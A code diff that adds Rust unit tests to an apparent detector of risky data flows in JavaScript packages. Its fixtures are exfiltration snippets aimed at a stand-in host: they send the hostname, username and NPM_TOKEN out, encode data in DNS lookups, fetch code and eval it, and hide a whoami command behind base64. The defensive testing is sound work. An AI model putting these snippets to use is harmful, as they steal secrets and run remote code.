@@ -527,6 +527,64 @@ pub(crate) mod tests {
             .collect()
     }
 
+    /// One sink's kinds, for a file run on import.
+    fn check(source: &str, expect: &[&str]) {
+        assert_eq!(sinks_of(source), expect, "{source}");
+    }
+
+    #[test]
+    fn values_flow_through_variables_objects_serialisers_and_handles() {
+        check(
+            "const os = require('os');\nconst https = require('https');\nconst qs = require('querystring');\nconst data = JSON.stringify({ h: os.hostname(), u: os.userInfo().username });\nconst body = qs.stringify({ msg: data });\nconst req = https.request({ hostname: 'x.example.invalid', method: 'POST' });\nreq.write(body);\nreq.end();\n",
+            &["https.request: host identity, a hard-coded host"],
+        );
+    }
+
+    #[test]
+    fn values_flow_through_functions_and_callbacks() {
+        check(
+            "const dns = require('dns');\nconst os = require('os');\nfunction label(host) { return `${host}.x.example.invalid`; }\nconst name = label(os.hostname());\ndns.lookup(name, () => {});\n",
+            &["dns.lookup: host identity, a hard-coded host"],
+        );
+        check(
+            "const https = require('https');\nhttps.get('https://x.example.invalid/p', (res) => { let code = ''; res.on('data', (chunk) => { code += chunk; }); res.on('end', () => eval(code)); });\n",
+            &["eval: a network response", "https.get: a hard-coded host"],
+        );
+    }
+
+    #[test]
+    fn hashes_tests_and_options_carry_nothing() {
+        check(
+            "const os = require('os');\nconst crypto = require('crypto');\nconst id = crypto.createHash('sha256').update(os.hostname()).digest('hex');\nfetch('https://x.example.invalid/', { body: id });\n",
+            &["fetch: a hard-coded host"],
+        );
+        // The environment handed to a child process is how tools pass it on.
+        check(
+            "const { spawn } = require('child_process');\nspawn('node', ['build.js'], { env: process.env });\n",
+            &["child_process.spawn: "],
+        );
+        // Names read out of the environment say what they are.
+        check(
+            "const { NODE_ENV, NPM_TOKEN } = process.env;\nfetch('https://x.example.invalid/' + NODE_ENV);\nfetch('https://y.example.invalid/' + NPM_TOKEN);\n",
+            &[
+                "fetch: a hard-coded host",
+                "fetch: a secret from the environment, a hard-coded host",
+            ],
+        );
+    }
+
+    #[test]
+    fn literals_decoded_in_the_code_are_followed() {
+        check(
+            "const m = require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString());\nm.execSync('whoami');\n",
+            &["child_process.execSync: a reconnaissance command"],
+        );
+        check(
+            "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());\n",
+            &["eval: decoded literals"],
+        );
+    }
+
     #[test]
     fn request_data_through_the_exports_reaches_eval() {
         let sinks = sinks_of(
